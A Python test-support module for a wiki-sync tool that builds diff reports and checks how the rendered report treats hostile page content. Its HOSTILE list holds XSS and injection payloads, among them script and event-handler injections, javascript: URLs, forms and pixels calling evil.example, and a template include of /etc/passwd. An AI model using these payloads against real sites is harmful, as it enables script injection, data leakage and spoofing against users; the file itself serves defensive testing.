"""Reports to be shown: pages of every status, and pages that mean harm."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

from support.values import action, key, page
from wikisync.page.model import Key
from wikisync.planning.model import Action, Conflict, Plan
from wikisync.request import PageDiff, Report, Request

if TYPE_CHECKING:
    from wikisync.page.model import Page
    from wikisync.planning.model import Command, Side, Verb


def pair(
    old: Page | None,
    new: Page | None,
    *,
    verb: Verb = "update",
    side: Side = "wiki",
    path: str = "guide/a",
    locale: str = "en",
    file: str = "",
    fields: tuple[str, ...] = (),
    **more: Any,
) -> PageDiff:
    item = action(
        verb,
        side,
        key=Key(locale, path),
        file=file or f"{path}.md",
        fields=fields,
        **more,
    )
    return PageDiff(item, old, new)


def conflicting(path: str = "torn") -> PageDiff:
    item = Conflict(
        key(path),
        f"{path}.md",
        "both-changed",
        ("content",),
        local_changes=("content",),
        remote_changes=("title",),
    )
    return PageDiff(item, page("Theirs.\n"), page("Mine.\n"))


def report(*pairs: PageDiff, direction: Command = "push", **more: Any) -> Report:
    actions = tuple(one.item for one in pairs if isinstance(one.item, Action))
    conflicts = tuple(one.item for one in pairs if isinstance(one.item, Conflict))
    plan = Plan(actions, conflicts, pages=len(pairs), **more)
    return Report(
        Request("diff", direction), "http://wiki.example", "pages", plan, diffs=tuple(pairs)
    )


HOSTILE = (
    "<script>window.harmed = 1</script>",
    "</style></script></title></textarea></details></article><script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    "<svg onload='window.harmed = 1'><a xlink:href='javascript:window.harmed = 1'>x</a></svg>",
    "<math><mtext><style><img src=x onerror='window.harmed = 1'></style></mtext></math>",
    "[click](javascript:window.harmed=1) [click](JaVaScRiPt&colon;window.harmed=1)",
    "<a href='java\nscript:window.harmed=1'>x</a> <a href='data:text/html,<script>1'>y</a>",
    "[ref]\n\n[ref]: vbscript:window.harmed=1",
    "<iframe src='javascript:parent.harmed = 1'></iframe><object data='x'></object><embed src=x>",
    "<form action='http://evil.example'><input name=a autofocus onfocus='harmed = 1'></form>",
    "<button onclick='window.harmed = 1' style='position:fixed;inset:0'>All is well</button>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/x)' id='pages'>x</div>",
    "<style>body{display:none}</style><link rel=stylesheet href='http://evil.example/x.css'>",
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<video src='http://evil.example/v' autoplay></video><audio src='http://evil.example/a'></audio>",
    "![pixel](http://evil.example/pixel.png) <img srcset='http://evil.example/2x.png 2x'>",
    "<details open ontoggle='window.harmed = 1'><summary>x</summary></details>",
    "<table><tr><td colspan=9999999 background='http://evil.example/b'>x</table>",
    "<template><script>window.harmed = 1</script></template><noscript><p title='</noscript>",
    "<div class='notice refused bar' id='help'>refused</div><dialog open>x</dialog>",
    "<label for='theme-dark'>x</label><input id='theme-dark' type=radio name=theme>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7 %>",
    "\u202egnp.exe\u202c \u2066\u2069 \x1b[31mred\x1b[0m \x00 \x07 \u200f",
    "<![CDATA[<script>window.harmed = 1</script>]]> <!-- --!><script>window.harmed = 1</script>",
    '"><script>window.harmed = 1</script><a title="',
    "' onmouseover='window.harmed = 1' x='",
    "<a title='<img src=x onerror=window.harmed=1>'>x</a> ![\"><script>1</script>](/x '\">')",
    "<xmp><script>window.harmed = 1</script></xmp><plaintext><script>window.harmed = 1</script>",
)
"""What pages may hold to do harm: in their content, title, description, tags or name."""


def hostile_report() -> Report:
    """Each of ``HOSTILE`` everywhere in a page: content, fields, name; as Markdown and as HTML."""
    pairs = []
    for number, text in enumerate(HOSTILE):
        for editor, ending in (("markdown", "md"), ("ckeditor", "html")):
            old = page(f"Before.\n\n{text}\n", title="Before", editor=editor)
            new = page(
                f"After.\n\n{text}\n",
                title=text,
                description=text,
                tags=(text,),
                editor=editor,
                script_css=f"a\n{text}",
                script_js=text,
            )
            name = f"{text}-{number}.{ending}"
            pairs.append(pair(old, new, path=f"{ending}/{number}", locale=text, file=name))
    return report(*pairs)


class Seen(HTMLParser):
    """The elements of a page, with their attributes, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]
